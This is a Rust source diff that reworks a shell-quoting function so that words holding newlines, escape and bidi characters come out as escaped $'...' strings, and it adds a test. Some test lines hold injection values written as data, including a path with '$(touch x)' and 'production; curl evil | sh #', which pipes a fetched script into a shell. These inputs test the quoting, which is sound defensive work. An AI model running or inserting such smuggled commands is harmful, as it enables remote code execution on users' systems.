@@ -124,7 +124,21 @@ pub fn shell_word(word: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "._~:/@%+=,-".contains(c);
     // A shell makes something else of these where a word begins.
     let begins_plain = !word.is_empty() && !word.starts_with(['~', '=']);
-    if begins_plain && word.chars().all(plain) { word.to_owned() } else { format!("'{}'", word.replace('\'', "'\\''")) }
+    if begins_plain && word.chars().all(plain) {
+        word.to_owned()
+    } else if word.chars().any(acts) {
+        // On one line, and so that nothing acts on the terminal that it is copied from.
+        let escaped = |c: char| match c {
+            '\n' => "\\n".to_owned(),
+            '\\' | '\'' => format!("\\{c}"),
+            c if acts(c) && u32::from(c) < 0x80 => format!("\\x{:02x}", u32::from(c)),
+            c if acts(c) => format!("\\u{:04x}", u32::from(c)),
+            c => c.to_string(),
+        };
+        format!("$'{}'", word.chars().map(escaped).collect::<String>())
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''"))
+    }
 }
 
 /// JSON in which every acting character is escaped, also those that JSON itself would let through.
@@ -171,6 +185,7 @@ mod tests {
         assert_eq!(shell_word("https://example.com/a.git"), "https://example.com/a.git");
         assert_eq!(shell_word("/tmp/$(touch x)'y"), "'/tmp/$(touch x)'\\''y'");
         assert_eq!(shell_word(""), "''");
+        assert_eq!(shell_word("- It's\n- new\\\u{202e}\u{1b}"), "$'- It\\'s\\n- new\\\\\\u202e\\x1b'");
         assert_eq!(shell_word("production; curl evil | sh #"), "'production; curl evil | sh #'");
         assert_eq!((shell_word("~root").as_str(), shell_word("=ls").as_str()), ("'~root'", "'=ls'"));
         assert_eq!((shell_word("a~1").as_str(), shell_word("--a=b").as_str()), ("a~1", "--a=b"));
